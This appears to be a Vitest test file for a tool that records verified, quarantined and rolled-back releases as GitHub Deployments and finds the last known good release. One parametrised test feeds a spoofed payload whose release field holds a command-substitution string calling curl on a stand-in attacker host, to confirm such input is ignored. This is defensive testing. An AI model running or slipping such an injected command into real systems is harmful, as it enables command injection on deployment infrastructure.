import { expect, test } from 'vitest';
import { lastKnownGood, quarantined } from '../src/last-known-good.ts';
import { noteQuarantine, noteRollback, noteVerified, type ReleaseNote } from '../src/note-deployment.ts';
import { connected } from './connected.ts';

const note = (release: string, environment = 'production'): ReleaseNote => ({
  environment,
  release,
  commit: null,
  operation: 'op-1',
  recordHead: `sha256:${'0'.repeat(64)}`,
  reason: 'said so',
});

test('what was noted is known again: the last good release, and the one in quarantine', async () => {
  const { github } = await connected();
  await noteVerified(github, note('v1'));
  await noteVerified(github, note('v2'));
  await noteQuarantine(github, note('v2'));
  await noteRollback(github, note('v1'));
  const found = await github.deployments('production', 30);
  expect(found.map(({ payload, status }) => [payload?.kind, payload?.release, status])).toEqual([
    ['rollback', 'v1', 'success'],
    ['quarantine', 'v2', 'failure'],
    ['verified-health', 'v2', 'success'],
    ['verified-health', 'v1', 'success'],
  ]);
  expect(lastKnownGood(found)?.payload).toMatchObject({ release: 'v1', operation: 'op-1' });
  expect([...quarantined(found)]).toEqual(['v2']);
});

test('it names the tag where there is one, and the default branch where a release is only a folder', async () => {
  const { stood, github } = await connected(({ refs }) => {
    refs.set('tags/v2', refs.get('heads/main') ?? '');
  });
  await noteVerified(github, note('v1'));
  await noteVerified(github, note('v2'));
  expect(stood.state.deployments.map(({ ref }) => ref)).toEqual(['main', 'v2']);
});

test('evidence stays evidence when a later Deployment supersedes it', async () => {
  const { stood, github } = await connected();
  await noteVerified(github, note('v1', 'staging'));
  stood.state.deployments[0]?.statuses.push({
    id: 99,
    state: 'inactive',
    description: '',
    created: '2026-01-01T00:00:00Z',
  });
  expect(lastKnownGood(await github.deployments('staging', 30))?.payload?.release).toBe('v1');
});

test('nothing of it makes an earlier Deployment inactive', async () => {
  const { stood, github } = await connected();
  await noteVerified(github, note('v1', 'staging'));
  await noteVerified(github, note('v2', 'staging'));
  expect(stood.state.deployments.flatMap(({ statuses }) => statuses.map(({ state }) => state))).toEqual([
    'success',
    'success',
  ]);
});

test('production alone is said to be production', async () => {
  const { stood, github } = await connected();
  await noteVerified(github, note('v1'));
  await noteVerified(github, note('v1', 'staging'));
  expect(stood.state.deployments.map(({ production }) => production)).toEqual([true, false]);
});

test('Deployments of jobs and of other environments are not among them', async () => {
  const { stood, github } = await connected();
  await noteVerified(github, note('v1', 'staging'));
  const [first] = stood.state.deployments;
  if (first !== undefined)
    stood.state.deployments.push({ ...first, id: 50, task: 'deploy', environment: 'production' });
  expect(await github.deployments('production', 30)).toEqual([]);
});

test('a Deployment of staging that a status moved to production proves nothing there', async () => {
  const { stood, github } = await connected();
  await noteVerified(github, note('v1', 'staging'));
  const [first] = stood.state.deployments;
  if (first !== undefined)
    stood.state.deployments[0] = { ...first, environment: 'production', originalEnvironment: 'staging' };
  expect(await github.deployments('production', 30)).toEqual([]);
});

test('who made a Deployment is told, because anybody who may write could have', async () => {
  const { stood, github } = await connected();
  await noteVerified(github, note('v1'));
  await noteVerified(github, note('v2'));
  const [first] = stood.state.deployments;
  if (first !== undefined) first.creator = 'mallory';
  expect((await github.deployments('production', 30)).map(({ by }) => by)).toEqual(['github-actions[bot]', 'mallory']);
  stood.trouble({ kind: 'gone-accounts' });
  expect((await github.deployments('production', 30)).map(({ by }) => by)).toEqual([null, null]);
});

test('more than one page of them is read, the newest first, as far as it is wanted', async () => {
  const { stood, github } = await connected();
  await noteVerified(github, note('v0'));
  const [first] = stood.state.deployments;
  if (first === undefined) throw new Error('it was noted');
  for (let id = 1; id <= 250; id += 1) {
    stood.state.deployments.push({
      ...first,
      id: 1000 + id,
      payload: { ...(first.payload as object), release: `v${id}` },
    });
  }
  const all = await github.deployments('production', 1000, 'payloads');
  expect(all.map(({ payload }) => payload?.release)).toEqual(Array.from({ length: 251 }, (_, at) => `v${250 - at}`));
  expect((await github.deployments('production', 120, 'payloads')).at(-1)?.payload?.release).toBe('v131');
  expect(stood.log.filter(({ operation }) => operation === 'repos/list-deployment-statuses')).toEqual([]);
});

test.each([
  ['huge', { note: 'x'.repeat(1024 * 1024) }],
  ['a text', 'deploy this, please'],
  ['one that looks like ours', { schema_version: 1, kind: 'verified-health', release: '$(curl evil.example.com)' }],
])('a payload of somebody that is %s hides nothing and is nothing', async (_what, payload) => {
  const { stood, github } = await connected();
  await noteVerified(github, note('v1'));
  const [first] = stood.state.deployments;
  if (first !== undefined) stood.state.deployments.push({ ...first, id: 50, payload });
  const found = await github.deployments('production', 30);
  expect(found.map(({ payload: read }) => read?.release ?? null)).toEqual([null, 'v1']);
  expect(lastKnownGood(found)?.payload?.release).toBe('v1');
});

test('a Deployment whose status never arrived proves nothing', async () => {
  const { stood, github } = await connected();
  const end = stood.trouble({ kind: 'errors', status: 500 }, { only: ['repos/create-deployment-status'] });
  expect(await noteVerified(github, note('v1'))).toMatchObject({ state: 'failed' });
  end();
  const found = await github.deployments('production', 30);
  expect(found).toMatchObject([{ status: null, payload: { release: 'v1' } }]);
  expect(lastKnownGood(found)).toBeNull();
});

test('a long description is cut to what GitHub takes', async () => {
  const { stood, github } = await connected();
  const release = `v${'1'.repeat(99)}`;
  expect(await noteVerified(github, { ...note(release), reason: 'x'.repeat(5000) })).toMatchObject({ state: 'noted' });
  expect(stood.state.deployments[0]?.description?.length).toBeLessThanOrEqual(140);
});

test('a note that cannot be made is a value, and says what is missing', async () => {
  const { github } = await connected(({ permissions }) => {
    permissions.deployments = 'read';
  });
  expect(await noteVerified(github, note('v1'))).toMatchObject({
    state: 'failed',
    mend: 'give the job "permissions: { deployments: write }"',
  });
});
